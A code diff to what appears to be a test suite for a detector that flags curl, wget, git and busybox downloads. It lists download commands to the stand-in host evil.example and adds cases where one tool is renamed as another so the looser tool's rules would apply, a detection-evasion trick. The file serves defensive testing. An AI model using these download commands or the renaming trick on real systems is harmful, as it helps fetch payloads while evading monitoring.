@@ -577,8 +577,19 @@ def _downloads() -> list[DerivedCase]:
         ("/usr/bin/curl", ["/app/c", "-o", "/tmp/t", "http://evil.example/t"], "c"),
         ("/usr/bin/wget", ["/tmp/.w", "http://evil.example/t"], ".w"),
         ("/usr/bin/git", ["/app/g", "clone", "https://evil.example/repo"], "g"),
+        # Named like the other tool (a link): the local-request checks are the executable's
+        # (review-rules-evasion M1: wget named curl passed curl's, which allow -i).
+        ("/usr/bin/wget", ["/tmp/curl", "-i/tmp/urls", "http://127.0.0.1/"], "curl"),
+        ("/usr/bin/wget", ["/tmp/curl", "-einput=/tmp/urls", "http://127.0.0.1/"], "curl"),
+        ("/usr/bin/curl", ["/tmp/wget", "-K/tmp/cfg", "http://127.0.0.1/"], "wget"),
+        ("/usr/bin/wget", ["/tmp/busybox", "wget", "-i/tmp/urls", "http://127.0.0.1/"], "busybox"),
+        ("/usr/bin/busybox", ["wget", "-Y", "on", "http://127.0.0.1/"], "wget"),  # the applet's proxy
     ]:
         cases.append(_download(group, argv, True, path=path, name=name))
+    group = "busybox's wget applet asking its own server is a local request"
+    cases.append(
+        _download(group, ["wget", "-qO-", "http://127.0.0.1:8080/health"], False, path="/usr/bin/busybox")
+    )
     # A loopback URL inside a word that has no scheme is host/path to curl and wget: the exception
     # for local requests needs the word to start with the scheme and the loopback host.
     group = "a loopback URL without its scheme first is a download"
